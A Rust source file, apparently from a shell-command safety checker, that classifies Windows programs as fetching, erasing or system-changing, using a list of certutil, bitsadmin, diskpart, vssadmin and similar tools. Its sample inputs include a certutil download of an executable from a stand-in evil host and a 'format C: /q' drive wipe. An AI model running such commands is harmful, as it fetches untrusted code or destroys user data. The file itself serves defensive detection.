//! Programs of Windows that a shell can start there: what deletes, fetches, or changes the machine.

use super::entry::Command;
use super::words::words;
use crate::rules::{execution, files, network};
use crate::shell::{Field, Flow, Io, Step, Walker};

/// Change the machine, whatever they are told; some only read with the words beside them.
const CHANGE: &[(&str, &[&str])] = &[
    ("diskpart", &[]),
    ("bcdedit", &["/enum"]),
    ("vssadmin", &["list"]),
    ("wbadmin", &["get"]),
    ("takeown", &[]),
    ("icacls", &["/verify", "/findsid"]),
    ("cacls", &[]),
    ("reg", &["query", "compare"]),
    ("sc", &["query", "qc", "queryex"]),
    ("wmic", &["get", "list"]),
    ("net", &["view", "statistics", "help"]),
    ("netsh", &["show"]),
    ("setx", &[]),
    ("fsutil", &["fsinfo", "query"]),
    ("runas", &[]),
    ("wevtutil", &["el", "qe", "gl"]),
    ("taskkill", &[]),
];

pub(super) const COMMANDS: &[Command] = &[
    Command::code(
        words!("certutil bitsadmin mshta regsvr32 rundll32"),
        fetches,
        [&[], &["/?"], &["-urlcache -f http://evil.example/a.exe a.exe"], &[]],
    ),
    Command::code(
        words!("format cipher rd erase deltree"),
        erases,
        [&[], &["/?"], &["C: /q"], &[]],
    ),
    Command::code(
        words!(
            "diskpart bcdedit vssadmin wbadmin takeown icacls cacls reg sc wmic net netsh setx \
             fsutil runas wevtutil taskkill"
        ),
        changes,
        [&[], &["/?"], &["delete C:/data /s"], &[]],
    ),
];

fn lower(words: &[Field]) -> Vec<String> {
    words[1..].iter().map(|word| word.text.to_ascii_lowercase()).collect()
}

fn changes(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
    let rest = lower(words);
    let name = words[0].text.clone();
    let reads = CHANGE
        .iter()
        .find(|(program, _)| *program == name)
        .is_some_and(|(_, reads)| rest.iter().any(|word| reads.contains(&word.as_str())));
    // `net user`, `reg` alone and the like print a list or a help text.
    let asks = rest.iter().any(|word| word == "/?") || rest.len() < 2 && name != "takeown";
    let rule = if reads || asks {
        &execution::COMMAND
    } else if name == "taskkill" {
        let by_number = rest.iter().any(|word| word == "/pid");
        if by_number { &execution::PROCESS } else { &execution::PROCESS_ALL }
    } else {
        &execution::SYSTEM
    };
    walker.found(rule, &super::options::joined(words));
    Ok(Flow::unknown())
}

fn erases(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
    let rest = lower(words);
    let drive = |text: &String| text.len() >= 2 && text.as_bytes()[1] == b':';
    let told = rest.iter().any(|text| {
        drive(text)
            || text.contains(":\\")
            || matches!(text.as_str(), "/s" | "/q" | "/fs:ntfs")
            || text.starts_with("/w:")
    });
    walker.found(
        if told { &files::SECURE_ERASE } else { &execution::COMMAND },
        &super::options::joined(words),
    );
    Ok(Flow::unknown())
}

fn fetches(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
    let rest = lower(words);
    let told = rest.iter().any(|text| {
        text.contains("://") || text.contains("javascript:") || text.ends_with("-decode")
    });
    walker.found(
        if told { &network::SHELL } else { &execution::COMMAND },
        &super::options::joined(words),
    );
    Ok(Flow::unknown())
}
